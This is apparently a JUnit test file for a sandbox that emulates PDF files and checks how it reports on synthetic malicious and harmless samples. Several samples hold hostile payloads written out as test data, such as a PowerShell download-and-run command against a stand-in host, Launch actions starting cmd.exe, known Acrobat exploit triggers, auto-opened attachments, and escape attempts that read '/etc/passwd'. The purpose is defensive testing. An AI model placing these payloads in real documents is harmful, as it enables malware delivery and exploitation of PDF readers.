package dev.peekaboo.emulation.script.pdf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.Behaviour.Type;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.EmulationReport.Child;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.stream.LongStream;
import java.util.stream.Stream;

/** Harmless PDF files in the styles of mailed ones, and what they do. */
@Timeout(60)
class PdfTest {
    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, String text, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** A file of one page; more of the root and more objects from number 5 on. */
    private static String pdf(String root, String... objects) {
        StringBuilder pdf =
                new StringBuilder("%PDF-1.7\n")
                        .append("1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + root + " >>\nendobj\n")
                        .append("2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n")
                        .append(
                                "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>\nendobj\n")
                        .append(
                                "4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Subj (hidden) /A 5 0 R >>\nendobj\n");
        for (int i = 0; i < objects.length; i++)
            pdf.append(5 + i).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        return pdf.append(
                        "trailer\n<< /Root 1 0 R /Info << /Title (app.alert\\(1\\)) >> >>\n%%EOF\n")
                .toString();
    }

    private static String script(String code) {
        return pdf(
                "/OpenAction << /S /JavaScript /JS ("
                        + code.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
                        + ") >>");
    }

    private static String stream(String content) {
        return "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream";
    }

    static Stream<Sample> bad_files_show_what_they_do() {
        return Stream.of(
                new Sample(
                        "launch",
                        pdf(
                                "/OpenAction 5 0 R",
                                "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
                        "pdf_starts_interpreter"),
                new Sample(
                        "launch of a click",
                        pdf("", "<< /S /Launch /F (\\\\\\\\files.example\\\\a\\\\b.exe) >>"),
                        "pdf_starts_program"),
                new Sample(
                        "PowerShell",
                        pdf(
                                "/AA << /WC 5 0 R >>",
                                "<< /S /Launch /Win << /F (powershell.exe) /P (-c iwr http://files.example/a.exe -o a.exe; start a.exe) >> >>"),
                        "pdf_starts_interpreter",
                        "download_and_run"),
                new Sample(
                        "download",
                        script("this.getURL('http://files.example/a.exe');"),
                        "pdf_opens_download"),
                new Sample(
                        "download in layers",
                        script(
                                "eval(unescape('app.launchURL%28%22http%3A//files.example/a.js%22%2C%20true%29'));"),
                        "pdf_opens_download"),
                new Sample(
                        "attachment opened",
                        pdf(
                                "/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({ cName: \"a.docm\", nLaunch: 2 }\\)) >> /Names << /EmbeddedFiles << /Names [(a.docm) 6 0 R] >> >>",
                                "null",
                                "<< /Type /Filespec /F (a.docm) /EF << /F 7 0 R >> >>",
                                stream("PK document")),
                        "pdf_opens_attachment_itself"),
                new Sample(
                        "share",
                        pdf(
                                "/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.5\\\\a\\\\b.pdf) /D [0 /Fit] >>"),
                        "pdf_opens_share"),
                new Sample(
                        "share by a script's stream",
                        pdf(
                                "/OpenAction << /S /JavaScript /JS 5 0 R >>",
                                stream("app.openDoc('\\\\\\\\files.example\\\\a\\\\b.pdf');")),
                        "pdf_opens_share"),
                new Sample(
                        "old attack",
                        script(
                                "var s = 'x'; while (s.length < 5000) s += s; Collab.collectEmailInfo({ msg: s });"),
                        "pdf_exploits_reader"),
                new Sample(
                        "old attack on printing",
                        script("util.printf('%45000f', 1);"),
                        "pdf_exploits_reader"),
                new Sample(
                        "code in an annotation",
                        script(
                                "this.syncAnnotScan(); if (getAnnots({nPage: 0})[0].subject == 'hidden') media.newPlayer(null);"),
                        "pdf_exploits_reader"),
                new Sample(
                        "code in a timer",
                        script("app.setTimeOut(\"getURL('http://files.example/x.hta')\", 100);"),
                        "pdf_opens_download"),
                new Sample(
                        "names tree",
                        pdf(
                                "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://files.example/a.scr'\\)) >>] >> >>"),
                        "pdf_opens_download"));
    }

    @ParameterizedTest
    @MethodSource
    void bad_files_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(Language.PDF, sample.text(), "a.pdf");

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isTrue();
    }

    static Stream<Sample> harmless_files_are_complete_and_not_bad() {
        return Stream.of(
                new Sample("page", pdf("")),
                new Sample("first page shown", pdf("/OpenAction [3 0 R /Fit]")),
                new Sample("link", pdf("", "<< /S /URI /URI (https://www.example.com/) >>")),
                new Sample(
                        "link to a program's page",
                        pdf("", "<< /S /URI /URI (https://www.example.com/setup.exe) >>")),
                new Sample(
                        "other file beside it",
                        pdf("", "<< /S /GoToR /F (part2.pdf) /D [0 /Fit] >>")),
                new Sample("prints itself", script("this.print(true);")),
                new Sample(
                        "checks the reader",
                        script("if (app.viewerVersion < 10) app.alert('Please update', 1);")),
                new Sample(
                        "form",
                        script(
                                "var f = this.getField('total'); if (f) f.value = util.printf('%.2f', 3); AFNumber_Format(2, 0, 0, 0, '', false);")),
                new Sample(
                        "date",
                        script("var d = new Date(); event.value = util.printd('dd.mm.yyyy', d);")),
                new Sample(
                        "form to send",
                        pdf(
                                "",
                                "<< /S /SubmitForm /F << /FS /URL /F (https://www.example.com/form) >> >>")),
                new Sample(
                        "invoice as data",
                        pdf(
                                "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 6 0 R] >> >>",
                                "null",
                                "<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 7 0 R >> >>",
                                stream("<xml/>"))),
                new Sample("leads to the next page", pdf("", "<< /S /Named /N /NextPage >>")));
    }

    @ParameterizedTest
    @MethodSource
    void harmless_files_are_complete_and_not_bad(Sample sample) {
        EmulationReport report = Emulated.run(Language.PDF, sample.text(), "a.pdf");

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void attached_files_come_out_under_their_names() {
        String pdf =
                pdf(
                        "/Names << /EmbeddedFiles << /Names [(a.js) 6 0 R] >> >>",
                        "null",
                        "<< /Type /Filespec /F (a.js) /EF << /F 7 0 R >> >>",
                        stream("WScript.Quit()"));

        EmulationReport report = Emulated.run(Language.PDF, pdf, "a.pdf");

        assertThat(report.children()).extracting(Child::name).containsExactly("a.js");
        assertThat(report.children().getFirst().content().sizeBytes()).isEqualTo(14);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "for (;;);",
                "function f() { f(); } f();",
                "var a = 'x'; for (;;) a += a;",
                "for (;;) app.launchURL('http://h' + Math.random() + '.example/');",
                "app.nope();",
                "broken(",
                "this.getPageNthWord(0, 0);",
                "try { app.nope; } catch (e) {}"
            })
    void what_does_not_end_or_is_missing_is_not_complete(String code) {
        EmulationReport report = Emulated.run(Language.PDF, script(code), "a.pdf");

        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isNotEqualTo(Completeness.COMPLETE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "java.lang.System",
                "Packages.java.lang.Runtime",
                "app.getClass()",
                "util.printf.getClass()",
                "this.getField.constructor('return java')()",
                "getAnnots()[0].getClass()",
                "(function () { try { null.x } catch (e) { return e.javaException || e.rhinoException } })()",
                "info.getClass()",
                "load('/etc/passwd')"
            })
    void nothing_of_java_can_be_reached(String attempt) {
        EmulationReport report =
                Emulated.run(
                        Language.PDF,
                        script(
                                "var got; try { got = "
                                        + attempt
                                        + "; } catch (e) { got = undefined; } if (got) app.alert('ESCAPED ' + got); app.alert('end');"),
                        "a.pdf");

        assertThat(report.all(Type.USER_MESSAGE, "text"))
                .noneMatch(text -> text.contains("ESCAPED"))
                .contains("end");
    }

    static LongStream seeds() {
        return LongStream.range(0, 200);
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void broken_files_never_break_the_emulation(long seed) {
        Random random = new Random(seed);
        Sample sample =
                bad_files_show_what_they_do().skip(random.nextInt(13)).findFirst().orElseThrow();
        StringBuilder text = new StringBuilder(sample.text());
        for (int i = random.nextInt(20); i >= 0; i--)
            text.setCharAt(random.nextInt(text.length()), (char) random.nextInt(256));
        if (random.nextBoolean()) text.setLength(random.nextInt(text.length()) + 1);

        EmulationReport report = Emulated.run(Language.PDF, text.toString(), "a.pdf");

        assertThat(report.incomplete())
                .as("seed %d of %s", seed, sample)
                .noneMatch(gap -> gap.contains("the emulation broke"));
    }

    static Stream<String> scripts_of_a_form_are_a_gap_however_they_are_written() {
        return Stream.of(
                "<event><script contentType='application/x-javascript'>app.alert(1)</script></event>",
                "<event><script>Get(\"http://files.example/\")</script></event>",
                "<event><x:script>Get(\"http://files.example/\")</x:script></event>",
                "<event><SCRIPT/></event>",
                "\u00fe\u00ff" + utf16("<event><script>1</script></event>"),
                utf16("<event><script>1</script></event>"));
    }

    @ParameterizedTest
    @MethodSource
    void scripts_of_a_form_are_a_gap_however_they_are_written(String xfa) {
        EmulationReport report = run(form(xfa));

        assertThat(report.incomplete()).anyMatch(gap -> gap.contains("scripts of an XFA form"));
    }

    @Test
    void a_form_without_scripts_is_seen_whole() {
        EmulationReport report = run(form("<template><field name='description'/></template>"));

        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void a_form_in_too_many_parts_is_a_gap() {
        EmulationReport report =
                run(
                        pdf(
                                "/AcroForm << /XFA [" + "(name) 5 0 R ".repeat(30) + "] >>",
                                "<< /Length 3 >>\nstream\n<a>\nendstream"));

        assertThat(report.incomplete())
                .anyMatch(gap -> gap.contains("the number of parts of an XFA form"));
    }

    /** One char for each byte. */
    private static String utf16(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1);
    }

    private static String form(String xfa) {
        return pdf(
                "/AcroForm << /XFA 5 0 R >>",
                "<< /Length " + xfa.length() + " >>\nstream\n" + xfa + "\nendstream");
    }

    private static EmulationReport run(String pdf) {
        return Emulated.run(Language.PDF, pdf, "a.pdf");
    }
}
